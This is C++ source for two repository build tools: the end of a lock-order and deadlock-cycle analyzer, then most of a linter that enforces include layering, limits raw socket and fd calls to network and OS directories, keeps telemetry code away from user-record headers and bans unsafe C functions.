  // ---- pass 2: locks ------------------------------------------------------

  void scan_mutex_decl(const ParsedFile& pf, const std::string& stmt_in,
                       std::size_t line, const std::string& cls) {
    const std::string stmt = trim(stmt_in);
    if (stmt.empty()) return;
    const bool is_util_file = pf.rel.rfind("util/", 0) == 0;
    // Raw std mutexes are invisible to the witness and the registry:
    // only the annotated wrappers may hold platform locks.
    if (!is_util_file) {
      for (const std::string raw_type : {"std::mutex", "std::shared_mutex",
                                         "std::recursive_mutex"}) {
        const auto pos = stmt.find(raw_type + " ");
        if (pos != std::string::npos && stmt.find('(') == std::string::npos &&
            stmt.find('&') == std::string::npos) {
          report_allowable("lockdecl", pf.rel, line,
                           raw_type + " declared outside util/ — locks use "
                           "the ranked util::Mutex/SharedMutex wrappers "
                           "(DESIGN.md §19)");
        }
      }
    }
    // util::Mutex / util::SharedMutex declarations (plain or vector-of).
    static const std::vector<std::string> kTypes = {
        "util::SharedMutex", "util::Mutex", "SharedMutex", "Mutex"};
    for (const auto& type : kTypes) {
      const auto pos = find_type(stmt, type);
      if (pos == std::string::npos) continue;
      // Skip refs/pointers/returns: "util::Mutex& tree_mutex()".
      std::string rest = stmt.substr(pos + type.size());
      if (!rest.empty() && (rest[0] == '&' || rest[0] == '*')) return;
      if (rest.rfind("> ", 0) == 0) rest = rest.substr(1);  // vector<...>
      const std::string name = first_ident(rest);
      if (name.empty()) return;
      // A declaration, not a guard/param/expression: name followed by
      // end, '{' (brace-init) or '=' — guards were filtered by '('.
      const std::string after = trim(rest.substr(rest.find(name) + name.size()));
      if (!after.empty() && after[0] == '(') return;
      MutexDecl m;
      m.member = name;
      std::string owner = cls;
      if (owner.empty()) {
        std::string stem = fs::path(pf.rel).stem().string();
        owner = stem;
      }
      m.id = owner + "::" + name;
      m.file = pf.rel;
      m.line = line;
      mutexes_.push_back(std::move(m));
      return;
    }
  }

  // Position of `type` used as a declaration's type (not part of a
  // longer qualified name).
  static std::size_t find_type(const std::string& stmt,
                               const std::string& type) {
    for (auto pos = stmt.find(type); pos != std::string::npos;
         pos = stmt.find(type, pos + 1)) {
      const bool left_ok =
          pos == 0 || (!ident_char(stmt[pos - 1]) && stmt[pos - 1] != ':');
      const auto after = pos + type.size();
      const bool right_ok = after >= stmt.size() || !ident_char(stmt[after]);
      if (left_ok && right_ok) return pos;
    }
    return std::string::npos;
  }

  static std::string first_ident(const std::string& s) {
    std::size_t b = 0;
    while (b < s.size() && !ident_char(s[b])) {
      if (s[b] == ';' || s[b] == '(' ) return {};
      ++b;
    }
    std::size_t e = b;
    while (e < s.size() && ident_char(s[e])) ++e;
    return s.substr(b, e - b);
  }

  // Resolve a guard's mutex expression to a declared mutex id.
  std::optional<std::string> resolve_mutex(const Function& fn,
                                           std::string expr) const {
    expr = trim(expr);
    // Strip indexing: slot_mutexes_[slot] -> slot_mutexes_.
    const auto bracket = expr.find('[');
    if (bracket != std::string::npos) expr = expr.substr(0, bracket);
    if (!expr.empty() && expr.back() == ')') return std::nullopt;  // accessor
    const std::string member = last_ident(expr);
    if (member.empty()) return std::nullopt;
    std::vector<const MutexDecl*> candidates;
    for (const auto& m : mutexes_)
      if (m.member == member) candidates.push_back(&m);
    if (candidates.empty()) return std::nullopt;
    if (!fn.cls.empty()) {
      for (const auto* m : candidates)
        if (m->id == fn.cls + "::" + member) return m->id;
    }
    // File-scoped globals resolve within their own file.
    for (const auto* m : candidates)
      if (m->file == fn.file &&
          m->id == fs::path(fn.file).stem().string() + "::" + member)
        return m->id;
    if (candidates.size() == 1) return candidates[0]->id;
    return std::nullopt;
  }

  struct Live {
    std::string id;   // mutex id, or "<unresolved>"
    std::string var;  // the guard variable's name ("" for temporaries)
    int depth;        // brace depth the guard was constructed at
    std::size_t line;
  };

  // Walks one function body tracking the live-guard stack, including
  // early `guard.unlock()` / re-`guard.lock()` transitions (the
  // compactor drops its lock before calling checkpoint()). Invokes
  // on_acquire(id, held-before, line) for each guard acquisition and
  // on_call(name, qualifier, held, line) for each plain call made while
  // at least one guard is live.
  void walk_body(
      Function& fn,
      const std::function<void(const std::string&, const std::vector<Live>&,
                               std::size_t)>& on_acquire,
      const std::function<void(const std::string&, const std::string&,
                               const std::vector<Live>&, std::size_t)>&
          on_call) {
    static const std::vector<std::string> kGuards = {
        "MutexLock", "UniqueLock", "ReadLock", "WriteLock"};
    std::vector<Live> held;
    std::map<std::string, std::string> unlocked;  // var -> mutex id
    int depth = 0;
    for (std::size_t li = 0; li < fn.body_lines.size(); ++li) {
      const std::string& line = fn.body_lines[li];
      const std::size_t lineno = fn.body_first_line + li;
      for (std::size_t i = 0; i < line.size(); ++i) {
        const char c = line[i];
        if (c == '{') ++depth;
        if (c == '}') {
          --depth;
          while (!held.empty() && held.back().depth > depth) held.pop_back();
        }
        if (!ident_char(c)) continue;
        std::size_t b = i;
        while (i < line.size() && ident_char(line[i])) ++i;
        const std::string tok = line.substr(b, i - b);
        if (std::find(kGuards.begin(), kGuards.end(), tok) != kGuards.end()) {
          // "util::MutexLock name(expr);" — the mutex expr is inside
          // the parens/braces after the variable name.
          std::size_t p = i;
          while (p < line.size() && line[p] != '(' && line[p] != '{' &&
                 line[p] != ';')
            ++p;
          if (p >= line.size() || line[p] == ';') continue;
          const char open = line[p];
          const char close = open == '(' ? ')' : '}';
          int d = 0;
          std::size_t q = p;
          for (; q < line.size(); ++q) {
            if (line[q] == open) ++d;
            if (line[q] == close && --d == 0) break;
          }
          if (q >= line.size()) continue;
          const auto id = resolve_mutex(fn, line.substr(p + 1, q - p - 1));
          if (id) on_acquire(*id, held, lineno);
          held.push_back(Live{id ? *id : std::string{"<unresolved>"},
                              trim(line.substr(i, p - i)), depth, lineno});
          continue;
        }
        // guard.unlock() / guard.lock(): early release and re-acquire.
        if ((tok == "unlock" || tok == "lock") && b >= 1 &&
            line[b - 1] == '.') {
          std::size_t ve = b - 1, vb = ve;
          while (vb > 0 && ident_char(line[vb - 1])) --vb;
          const std::string var = line.substr(vb, ve - vb);
          if (tok == "unlock") {
            for (std::size_t h = held.size(); h-- > 0;) {
              if (held[h].var == var && !var.empty()) {
                unlocked[var] = held[h].id;
                held.erase(held.begin() + static_cast<std::ptrdiff_t>(h));
                break;
              }
            }
          } else if (const auto uit = unlocked.find(var);
                     uit != unlocked.end()) {
            if (uit->second != "<unresolved>")
              on_acquire(uit->second, held, lineno);
            held.push_back(Live{uit->second, var, depth, lineno});
          }
          continue;
        }
        // A plain call while guards are held.
        if (held.empty()) continue;
        std::size_t after = i;
        while (after < line.size() &&
               std::isspace(static_cast<unsigned char>(line[after])) != 0)
          ++after;
        if (after >= line.size() || line[after] != '(') continue;
        if (kKeywords.count(tok) != 0) continue;
        std::string qualifier;
        if (b >= 2 && line.compare(b - 2, 2, "::") == 0) {
          std::size_t qe = b - 2, qb = qe;
          while (qb > 0 && ident_char(line[qb - 1])) --qb;
          qualifier = line.substr(qb, qe - qb);
          if (qualifier.empty()) qualifier = "::";  // global scope: OS call
        }
        on_call(tok, qualifier, held, lineno);
      }
    }
  }

  void lock_pass(const std::string& lock_order_file,
                 const std::string& ranks_header) {
    // Phase A: guard sites — direct acquisition sets + intra-function
    // nesting edges.
    for (Function& fn : functions_) {
      walk_body(
          fn,
          [&](const std::string& id, const std::vector<Live>& held,
              std::size_t lineno) {
            fn.acquires.insert(id);
            for (const Live& outer : held) {
              if (outer.id == id || outer.id == "<unresolved>") continue;
              add_edge(outer.id, id,
                       fn.file + ":" + std::to_string(lineno) + " (" +
                           fn.name + ")");
            }
          },
          [](const std::string&, const std::string&, const std::vector<Live>&,
             std::size_t) {});
    }
    // Transitive acquisition summaries for interprocedural edges.
    std::map<std::string, std::set<std::string>> may_acquire;
    for (const Function& fn : functions_)
      may_acquire[fn.name].insert(fn.acquires.begin(), fn.acquires.end());
    for (int round = 0; round < 16; ++round) {
      bool changed = false;
      for (const Function& fn : functions_) {
        auto& mine = may_acquire[fn.name];
        for (const Call& c : fn.calls) {
          const auto callee = resolve(fn, c);
          if (!callee) continue;
          for (const auto& id : may_acquire[functions_[*callee].name])
            if (mine.insert(id).second) changed = true;
        }
      }
      if (!changed) break;
    }
    // Phase B: calls made while a guard is live — edge from each held
    // mutex to everything the callee may (transitively) acquire.
    for (Function& fn : functions_) {
      walk_body(
          fn,
          [](const std::string&, const std::vector<Live>&, std::size_t) {},
          [&](const std::string& name, const std::string& qualifier,
              const std::vector<Live>& held, std::size_t lineno) {
            Call probe;
            probe.name = name;
            probe.qualifier = qualifier;
            const auto callee = resolve(fn, probe);
            if (!callee) return;
            const auto it = may_acquire.find(functions_[*callee].name);
            if (it == may_acquire.end()) return;
            for (const auto& inner : it->second) {
              for (const Live& outer : held) {
                if (outer.id == inner || outer.id == "<unresolved>") continue;
                add_edge(outer.id, inner,
                         fn.file + ":" + std::to_string(lineno) + " (" +
                             fn.name + " -> " + functions_[*callee].name +
                             ")");
              }
            }
          });
    }

    scan_native_optouts();
    check_cycles();
    if (!lock_order_file.empty()) check_registry(lock_order_file, ranks_header);
  }

  // std::lock_guard/unique_lock/scoped_lock over `.native()` handles
  // bypass both the TSA annotations and the runtime witness — each such
  // site must say why (the documented opt-outs: registry moves, the
  // all-shards load sweep).
  void scan_native_optouts() {
    for (const auto& pf : files_) {
      if (pf.rel.rfind("util/", 0) == 0) continue;
      for (std::size_t l = 0; l < pf.lines.size(); ++l) {
        const std::string& line = pf.lines[l];
        if (line.find("native()") == std::string::npos) continue;
        const bool std_lock = line.find("std::unique_lock") !=
                                  std::string::npos ||
                              line.find("std::scoped_lock") !=
                                  std::string::npos ||
                              line.find("std::lock_guard") !=
                                  std::string::npos;
        if (!std_lock) continue;
        report_allowable(
            "native", pf.rel, l + 1,
            "std lock over native() bypasses the lock witness — justify "
            "with // w5flow-allow(native): <why>");
      }
    }
  }

  void add_edge(const std::string& from, const std::string& to,
                std::string site) {
    if (from == "<unresolved>" || to == "<unresolved>") return;
    for (const auto& e : edges_)
      if (e.from == from && e.to == to) return;
    edges_.push_back(LockEdge{from, to, std::move(site)});
  }

  void check_cycles() {
    std::map<std::string, std::vector<const LockEdge*>> adj;
    for (const auto& e : edges_) adj[e.from].push_back(&e);
    std::set<std::string> done;
    std::vector<const LockEdge*> path;
    std::set<std::string> on_path;
    // Iterative DFS with an explicit edge stack.
    std::function<bool(const std::string&)> dfs =
        [&](const std::string& node) -> bool {
      on_path.insert(node);
      for (const LockEdge* e : adj[node]) {
        if (on_path.count(e->to) != 0) {
          // Cycle: trim the path to the repeated node.
          std::string msg = "lock-acquisition cycle: ";
          bool in_cycle = false;
          for (const LockEdge* pe : path) {
            if (pe->from == e->to) in_cycle = true;
            if (in_cycle) msg += pe->from + " -> ";
          }
          msg += e->from + " -> " + e->to;
          msg += "; edges: ";
          in_cycle = false;
          for (const LockEdge* pe : path) {
            if (pe->from == e->to) in_cycle = true;
            if (in_cycle) msg += "[" + pe->site + "] ";
          }
          msg += "[" + e->site + "]";
          report("lockcycle", root_rel(), 0, msg);
          return true;
        }
        if (done.count(e->to) == 0) {
          path.push_back(e);
          if (dfs(e->to)) return true;
          path.pop_back();
        }
      }
      on_path.erase(node);
      done.insert(node);
      return false;
    };
    std::set<std::string> nodes;
    for (const auto& e : edges_) {
      nodes.insert(e.from);
      nodes.insert(e.to);
    }
    for (const auto& n : nodes) {
      if (done.count(n) == 0 && dfs(n)) return;  // first cycle is enough
    }
  }

  std::string root_rel() const { return "(graph)"; }

  void check_registry(const std::string& lock_order_file,
                      const std::string& ranks_header) {
    std::ifstream in(lock_order_file);
    if (!in) {
      report("lockrank", lock_order_file, 0, "cannot read lock-order file");
      return;
    }
    std::vector<RankEntry> entries;
    std::string line;
    std::size_t lineno = 0;
    while (std::getline(in, line)) {
      ++lineno;
      const auto hash = line.find('#');
      if (hash != std::string::npos) line.resize(hash);
      std::stringstream ss(line);
      RankEntry e;
      if (ss >> e.rank >> e.id >> e.constant) {
        e.line = lineno;
        entries.push_back(e);
      }
    }
    const std::string order_rel = lock_order_file;
    std::map<std::string, const RankEntry*> by_id;
    std::map<int, const RankEntry*> by_rank;
    for (const auto& e : entries) {
      if (by_id.count(e.id) != 0) {
        report("lockrank", order_rel, e.line, "duplicate entry for " + e.id);
        continue;
      }
      by_id[e.id] = &e;
      if (by_rank.count(e.rank) != 0) {
        report("lockrank", order_rel, e.line,
               "rank " + std::to_string(e.rank) + " assigned to both " +
                   by_rank[e.rank]->id + " and " + e.id +
                   " — ranks are a total order over lock classes");
      } else {
        by_rank[e.rank] = &e;
      }
    }
    // Every declared mutex has an entry, and its declaring file names the
    // registry constant (so the runtime rank cannot drift from the doc).
    std::set<std::string> seen_ids;
    for (const auto& m : mutexes_) {
      seen_ids.insert(m.id);
      const auto it = by_id.find(m.id);
      if (it == by_id.end()) {
        report_allowable("lockrank", m.file, m.line,
                         m.id + " has no rank in " + order_rel +
                             " — every mutex in src/ is ranked (DESIGN.md "
                             "§19)");
        continue;
      }
      if (!file_mentions_constant(m.file, it->second->constant)) {
        report_allowable(
            "lockrank", m.file, m.line,
            m.id + " must be constructed with util::lockrank::" +
                it->second->constant + " (per " + order_rel + ")");
      }
    }
    for (const auto& e : entries) {
      if (seen_ids.count(e.id) == 0) {
        report("lockrank", order_rel, e.line,
               "stale entry: no mutex named " + e.id + " in the tree");
      }
    }
    // Cross-check the runtime constants header.
    std::ifstream hdr(ranks_header);
    if (!hdr) {
      report("lockrank", ranks_header, 0, "cannot read ranks header");
      return;
    }
    std::map<std::string, int> header_ranks;
    lineno = 0;
    while (std::getline(hdr, line)) {
      ++lineno;
      const auto pos = line.find("inline constexpr int k");
      if (pos == std::string::npos) continue;
      std::stringstream ss(line.substr(pos + 21));
      std::string name, eq;
      int value = 0;
      if (ss >> name >> eq >> value && eq == "=") header_ranks[name] = value;
    }
    for (const auto& e : entries) {
      const auto it = header_ranks.find(e.constant);
      if (it == header_ranks.end()) {
        report("lockrank", ranks_header, 0,
               "registry constant " + e.constant + " (for " + e.id +
                   ") missing from util/lock_ranks.h");
      } else if (it->second != e.rank) {
        report("lockrank", ranks_header, 0,
               e.constant + " is " + std::to_string(it->second) +
                   " in util/lock_ranks.h but " + std::to_string(e.rank) +
                   " in " + order_rel);
      }
    }
    for (const auto& [name, value] : header_ranks) {
      (void)value;
      bool found = false;
      for (const auto& e : entries)
        if (e.constant == name) found = true;
      if (!found) {
        report("lockrank", ranks_header, 0,
               "util/lock_ranks.h constant " + name + " has no entry in " +
                   order_rel);
      }
    }
    // Edges must go up in rank.
    for (const auto& e : edges_) {
      const auto fi = by_id.find(e.from);
      const auto ti = by_id.find(e.to);
      if (fi == by_id.end() || ti == by_id.end()) continue;
      if (fi->second->rank > ti->second->rank) {
        report("lockorder", order_rel, ti->second->line,
               "acquiring " + e.to + " (rank " +
                   std::to_string(ti->second->rank) + ") while holding " +
                   e.from + " (rank " + std::to_string(fi->second->rank) +
                   ") inverts the declared order; site: " + e.site);
      }
    }
  }

  bool file_mentions_constant(const std::string& rel,
                              const std::string& constant) const {
    // The declaring file, or its header/source sibling (vector-of-mutex
    // ranks are applied in the constructor body).
    const std::string stem = fs::path(rel).stem().string();
    for (const auto& f : files_) {
      if (fs::path(f.rel).stem().string() != stem) continue;
      for (const auto& l : f.lines)
        if (l.find(constant) != std::string::npos) return true;
    }
    return false;
  }

  fs::path root_;
  std::vector<ParsedFile> files_;
  const ParsedFile* current_file_ = nullptr;
  std::vector<Function> functions_;
  std::map<std::string, std::vector<std::size_t>> by_name_;
  std::map<std::string, std::vector<std::size_t>> by_base_;
  std::vector<MutexDecl> mutexes_;
  std::vector<LockEdge> edges_;
  std::vector<Violation> violations_;
  std::size_t suppressed_ = 0;
};

}  // namespace

int main(int argc, char** argv) {
  std::vector<std::string> args(argv + 1, argv + argc);
  std::string root, lock_order, ranks_header;
  for (std::size_t i = 0; i < args.size(); ++i) {
    if (args[i] == "--lock-order") {
      if (i + 1 >= args.size()) {
        std::cerr << "w5flow: --lock-order needs a file\n";
        return 2;
      }
      lock_order = args[++i];
    } else if (args[i] == "--ranks-header") {
      if (i + 1 >= args.size()) {
        std::cerr << "w5flow: --ranks-header needs a file\n";
        return 2;
      }
      ranks_header = args[++i];
    } else if (root.empty()) {
      root = args[i];
    } else {
      std::cerr << "w5flow: unexpected argument '" << args[i] << "'\n";
      return 2;
    }
  }
  if (root.empty()) {
    std::cerr << "usage: w5flow <src-root> [--lock-order <file>] "
                 "[--ranks-header <file>]\n";
    return 2;
  }
  if (!lock_order.empty() && ranks_header.empty())
    ranks_header = root + "/util/lock_ranks.h";
  Analyzer analyzer{fs::path(root)};
  return analyzer.run(lock_order, ranks_header);
}
