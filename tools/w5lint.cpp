// w5lint — repo-specific static checks for the W5 tree (DESIGN.md §14).
//
// The platform's promise (§3.1) is that the *platform*, not the app,
// enforces the perimeter. Runtime legs (TSan, the telemetry leak test)
// only catch a violation when a test happens to execute it; this tool
// makes the structural rules fail the build instead:
//
//   layering    The include DAG between src/ top-level directories is
//               frozen below; a new back-edge (difc/ including core/,
//               store/ including apps/, ...) is an error.
//   perimeter   Raw socket/file-descriptor writes (::send, ::write and
//               friends) appear only in net/ and os/ — everything else
//               must go through the gateway/declassifier surface. apps/
//               must not include net/http_server.h (apps never construct
//               externally-bound responses themselves).
//   telemetry   telemetry/debug planes (util/metrics, core/trace,
//               core/flight_recorder, core/statusz, net/tracing) never
//               include store/record.h (§3.5: telemetry carries no user
//               data bytes; previously guarded only by a runtime leak
//               test).
//   banned      strcpy/sprintf/gets/rand(3) and `using namespace` in
//               headers.
//
// Usage: w5lint <src-root> [--allowlist <file>]
//
// Exit 0: clean. Exit 1: violations (one line each). Exit 2: bad usage.
// The allowlist file contains lines "<check> <path-prefix>  # why";
// a violation is suppressed when its check name matches and its path
// (relative to <src-root>) starts with the prefix.
//
// Self-contained: C++20 + <filesystem> only, no third-party deps.

#include <algorithm>
#include <cctype>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

namespace fs = std::filesystem;

namespace {

// ---- The frozen layering DAG ----------------------------------------------
// Derived from the tree at freeze time (PR 5); each directory may include
// itself, plus exactly the directories listed. Adding a legitimate new
// edge is a DESIGN.md §14 decision: update this table in the same PR and
// say why in the design doc.
const std::map<std::string, std::set<std::string>> kAllowedIncludes = {
    {"util", {}},
    {"difc", {"util"}},
    {"net", {"util"}},
    {"rank", {"util"}},
    {"os", {"difc", "util"}},
    {"store", {"difc", "net", "os", "util"}},
    {"core", {"difc", "net", "os", "rank", "store", "util"}},
    // PR 9 (federated metasearch, DESIGN.md §18): fed/ gained rank/ (the
    // tf-idf merge-rank reuses the search tokenizer and weights) and
    // store/ (QueryOptions + the §3.5 quantizer for federated facet
    // counts). apps/ deliberately did NOT gain fed/ — apps reach the
    // scatter/gather plane only through the core-owned FederatedSearchFn
    // seam (AppContext/gateway), pinned by the metasearch_layering lint
    // fixture.
    {"fed", {"core", "net", "rank", "store", "util"}},
    {"apps", {"core", "util"}},
};

// Directories whose code may touch raw socket/fd write primitives.
const std::set<std::string> kRawWriteDirs = {"net", "os"};
const std::vector<std::string> kRawWriteCalls = {"send", "sendto", "sendmsg",
                                                 "write", "writev", "pwrite"};

// Event-plane primitives (DESIGN.md §15): readiness multiplexing and
// accept loops live in the reactor/transport layers only. Anything above
// net/ and os/ that wants to wait on a socket goes through a Connection
// or the serve() surface — a raw poll/epoll/accept elsewhere is a
// second, unaudited event loop.
const std::vector<std::string> kRawEventCalls = {
    "poll", "ppoll", "epoll_wait", "epoll_create1", "epoll_ctl", "accept",
    "accept4", "eventfd"};

// Telemetry planes (§3.5) and the include that would let record bytes in.
// The §16 observability surfaces (flight recorder, statusz, cross-hop
// trace plumbing) are telemetry files too: anything they render is one
// include away from being exfiltrated through /debug or a trace header.
const std::vector<std::string> kTelemetryPrefixes = {
    "util/metrics", "core/trace", "core/flight_recorder", "core/statusz",
    "net/tracing"};
// Both headers expose record bytes: record.h the struct itself,
// labeled_store.h the query surface that returns them. Telemetry reads
// engine health through the record-free QueryEngineStats hand-off
// instead (store/query_stats.h).
const std::vector<std::string> kRecordHeaders = {"store/record.h",
                                                 "store/labeled_store.h"};

// Functions that have no business in this tree (buffer overflows, or a
// global PRNG where util::Rng keeps runs deterministic and seedable).
const std::vector<std::string> kBannedCalls = {"strcpy", "strcat", "sprintf",
                                               "vsprintf", "gets", "rand",
                                               "srand"};

struct Violation {
  std::string check;
  std::string path;  // relative to the scanned root
  std::size_t line;
  std::string message;
};

struct AllowEntry {
  std::string check;
  std::string prefix;
  std::size_t line = 0;  // line in the allowlist file, for diagnostics
  bool used = false;     // an entry that suppresses nothing is itself an error
};

bool ident_char(char c) {
  return std::isalnum(static_cast<unsigned char>(c)) != 0 || c == '_';
}

// Blanks out comments and string/char literals, preserving line structure,
// so the token checks below never trip on documentation or log text.
std::string strip_comments_and_literals(const std::string& in) {
  std::string out;
  out.reserve(in.size());
  enum class State { kCode, kLineComment, kBlockComment, kString, kChar };
  State state = State::kCode;
  for (std::size_t i = 0; i < in.size(); ++i) {
    const char c = in[i];
    const char next = i + 1 < in.size() ? in[i + 1] : '\0';
    switch (state) {
      case State::kCode:
        if (c == '/' && next == '/') {
          state = State::kLineComment;
          out += "  ";
          ++i;
        } else if (c == '/' && next == '*') {
          state = State::kBlockComment;
          out += "  ";
          ++i;
        } else if (c == '"') {
          state = State::kString;
          out += ' ';
        } else if (c == '\'') {
          state = State::kChar;
          out += ' ';
        } else {
          out += c;
        }
        break;
      case State::kLineComment:
        if (c == '\n') {
          state = State::kCode;
          out += '\n';
        } else {
          out += ' ';
        }
        break;
      case State::kBlockComment:
        if (c == '*' && next == '/') {
          state = State::kCode;
          out += "  ";
          ++i;
        } else {
          out += c == '\n' ? '\n' : ' ';
        }
        break;
      case State::kString:
      case State::kChar: {
        const char quote = state == State::kString ? '"' : '\'';
        if (c == '\\') {
          out += "  ";
          ++i;
          if (next == '\n') out.back() = '\n';
        } else if (c == quote) {
          state = State::kCode;
          out += ' ';
        } else {
          out += c == '\n' ? '\n' : ' ';
        }
        break;
      }
    }
  }
  return out;
}

// First path component of a relative path ("core/trace.h" -> "core").
std::string top_dir(const std::string& rel) {
  const auto slash = rel.find('/');
  return slash == std::string::npos ? std::string{} : rel.substr(0, slash);
}

std::vector<std::string> split_lines(const std::string& text) {
  std::vector<std::string> lines;
  std::stringstream ss(text);
  std::string line;
  while (std::getline(ss, line)) lines.push_back(line);
  return lines;
}

// Extracts `path` from an `#include "path"` line; empty when not one.
std::string quoted_include(const std::string& line) {
  auto pos = line.find_first_not_of(" \t");
  if (pos == std::string::npos || line[pos] != '#') return {};
  pos = line.find_first_not_of(" \t", pos + 1);
  if (pos == std::string::npos || line.compare(pos, 7, "include") != 0)
    return {};
  const auto open = line.find('"', pos + 7);
  if (open == std::string::npos) return {};
  const auto close = line.find('"', open + 1);
  if (close == std::string::npos) return {};
  return line.substr(open + 1, close - open - 1);
}

// True when `token(` appears as a standalone call at `pos`-ish; bans
// `strcpy(...)` but not `w5_strcpy(...)`, `s.rand(...)`, or `x::rand(`.
bool banned_call_at(const std::string& line, std::size_t pos,
                    const std::string& token) {
  if (pos > 0) {
    const char before = line[pos - 1];
    if (ident_char(before) || before == ':' || before == '.' ||
        before == '>') {
      return false;  // method, qualified name, or longer identifier
    }
  }
  std::size_t after = pos + token.size();
  while (after < line.size() &&
         std::isspace(static_cast<unsigned char>(line[after])) != 0)
    ++after;
  return after < line.size() && line[after] == '(';
}

class Linter {
 public:
  explicit Linter(fs::path root) : root_(std::move(root)) {}

  bool load_allowlist(const fs::path& file) {
    std::ifstream in(file);
    if (!in) return false;
    allowlist_file_ = file.generic_string();
    std::string line;
    std::size_t lineno = 0;
    while (std::getline(in, line)) {
      ++lineno;
      const auto hash = line.find('#');
      if (hash != std::string::npos) line.resize(hash);
      std::stringstream ss(line);
      AllowEntry entry;
      entry.line = lineno;
      if (ss >> entry.check >> entry.prefix) allow_.push_back(entry);
    }
    return true;
  }

  void scan_file(const fs::path& path) {
    const std::string rel = fs::relative(path, root_).generic_string();
    const bool is_header = path.extension() == ".h";
    std::ifstream in(path);
    std::stringstream buffer;
    buffer << in.rdbuf();
    const std::string raw = buffer.str();
    // Includes are parsed from the raw lines (the path sits inside the
    // quotes the stripper blanks); token checks use the stripped lines.
    const std::vector<std::string> raw_lines = split_lines(raw);
    const std::vector<std::string> lines =
        split_lines(strip_comments_and_literals(raw));

    const std::string dir = top_dir(rel);
    const auto layer = kAllowedIncludes.find(dir);
    const bool telemetry_file =
        std::any_of(kTelemetryPrefixes.begin(), kTelemetryPrefixes.end(),
                    [&](const std::string& p) { return rel.rfind(p, 0) == 0; });

    for (std::size_t i = 0; i < lines.size(); ++i) {
      const std::string& line = lines[i];
      const std::size_t lineno = i + 1;

      if (const std::string inc =
              i < raw_lines.size() ? quoted_include(raw_lines[i]) : "";
          !inc.empty()) {
        const std::string inc_dir = top_dir(inc);
        if (layer != kAllowedIncludes.end() && !inc_dir.empty() &&
            inc_dir != dir && kAllowedIncludes.count(inc_dir) != 0 &&
            layer->second.count(inc_dir) == 0) {
          report("layering", rel, lineno,
                 dir + "/ must not include " + inc_dir + "/ (\"" + inc +
                     "\"): frozen DAG edge missing — see DESIGN.md §14");
        }
        if (dir == "apps" && inc == "net/http_server.h") {
          report("perimeter", rel, lineno,
                 "apps/ must not include net/http_server.h — responses "
                 "leave only through the gateway/declassifier (§3.1)");
        }
        if (telemetry_file &&
            std::find(kRecordHeaders.begin(), kRecordHeaders.end(), inc) !=
                kRecordHeaders.end()) {
          report("telemetry", rel, lineno,
                 rel + " must not include " + inc +
                     " — telemetry carries no user data bytes (§3.5)");
        }
        continue;
      }

      if (kRawWriteDirs.count(dir) == 0) {
        for (const std::string& call : kRawWriteCalls) {
          const std::string needle = "::" + call;
          for (auto pos = line.find(needle); pos != std::string::npos;
               pos = line.find(needle, pos + 1)) {
            // Qualified names like util::write_all are fine; only the
            // global-namespace syscall spelling is the perimeter breach.
            if (pos > 0 && (ident_char(line[pos - 1]) || line[pos - 1] == ':'))
              continue;
            std::size_t after = pos + needle.size();
            while (after < line.size() &&
                   std::isspace(static_cast<unsigned char>(line[after])) != 0)
              ++after;
            if (after < line.size() && line[after] == '(') {
              report("perimeter", rel, lineno,
                     "raw ::" + call +
                         "() outside net/ and os/ — external bytes move "
                         "only through the perimeter layers (§3.1)");
            }
          }
        }
        for (const std::string& call : kRawEventCalls) {
          const std::string needle = "::" + call;
          for (auto pos = line.find(needle); pos != std::string::npos;
               pos = line.find(needle, pos + 1)) {
            if (pos > 0 && (ident_char(line[pos - 1]) || line[pos - 1] == ':'))
              continue;
            std::size_t after = pos + needle.size();
            while (after < line.size() &&
                   std::isspace(static_cast<unsigned char>(line[after])) != 0)
              ++after;
            if (after < line.size() && line[after] == '(') {
              report("event", rel, lineno,
                     "raw ::" + call +
                         "() outside net/ and os/ — readiness multiplexing "
                         "and accept loops belong to the reactor (§15)");
            }
          }
        }
      }

      for (const std::string& call : kBannedCalls) {
        for (auto pos = line.find(call); pos != std::string::npos;
             pos = line.find(call, pos + 1)) {
          if (banned_call_at(line, pos, call)) {
            report("banned", rel, lineno,
                   "banned function " + call +
                       "() — use the util/ replacements (bounded strings, "
                       "util::Rng)");
          }
        }
      }

      if (is_header && line.find("using namespace") != std::string::npos) {
        report("banned", rel, lineno,
               "`using namespace` in a header pollutes every includer");
      }
    }
  }

  int run() {
    if (!fs::exists(root_)) {
      std::cerr << "w5lint: no such directory: " << root_ << "\n";
      return 2;
    }
    std::vector<fs::path> files;
    for (const auto& entry : fs::recursive_directory_iterator(root_)) {
      if (!entry.is_regular_file()) continue;
      const auto ext = entry.path().extension();
      if (ext == ".h" || ext == ".cpp" || ext == ".cc" || ext == ".hpp")
        files.push_back(entry.path());
    }
    std::sort(files.begin(), files.end());
    for (const auto& file : files) scan_file(file);

    // An allowlist entry that suppressed nothing is dead weight: either
    // the violation it excused is gone (delete the entry) or the prefix
    // is wrong and the suppression never worked (fix it). Both deserve a
    // failing run, not silence.
    for (const AllowEntry& entry : allow_) {
      if (entry.used) continue;
      violations_.push_back(Violation{
          "stale-allow", allowlist_file_, entry.line,
          "allowlist entry '" + entry.check + " " + entry.prefix +
              "' suppressed nothing — delete it or fix the prefix"});
    }

    for (const Violation& v : violations_) {
      std::cerr << "w5lint: " << v.path << ":" << v.line << ": [" << v.check
                << "] " << v.message << "\n";
    }
    std::cerr << "w5lint: " << files.size() << " files, "
              << violations_.size() << " violation(s), " << suppressed_
              << " suppressed\n";
    return violations_.empty() ? 0 : 1;
  }

 private:
  void report(std::string check, const std::string& rel, std::size_t line,
              std::string message) {
    for (AllowEntry& entry : allow_) {
      if (entry.check == check && rel.rfind(entry.prefix, 0) == 0) {
        entry.used = true;
        ++suppressed_;
        return;
      }
    }
    violations_.push_back(
        Violation{std::move(check), rel, line, std::move(message)});
  }

  fs::path root_;
  std::string allowlist_file_;
  std::vector<AllowEntry> allow_;
  std::vector<Violation> violations_;
  std::size_t suppressed_ = 0;
};

}  // namespace

int main(int argc, char** argv) {
  std::vector<std::string> args(argv + 1, argv + argc);
  std::string root;
  std::string allowlist;
  for (std::size_t i = 0; i < args.size(); ++i) {
    if (args[i] == "--allowlist") {
      if (i + 1 >= args.size()) {
        std::cerr << "w5lint: --allowlist needs a file\n";
        return 2;
      }
      allowlist = args[++i];
    } else if (root.empty()) {
      root = args[i];
    } else {
      std::cerr << "w5lint: unexpected argument '" << args[i] << "'\n";
      return 2;
    }
  }
  if (root.empty()) {
    std::cerr << "usage: w5lint <src-root> [--allowlist <file>]\n";
    return 2;
  }
  Linter linter((fs::path(root)));
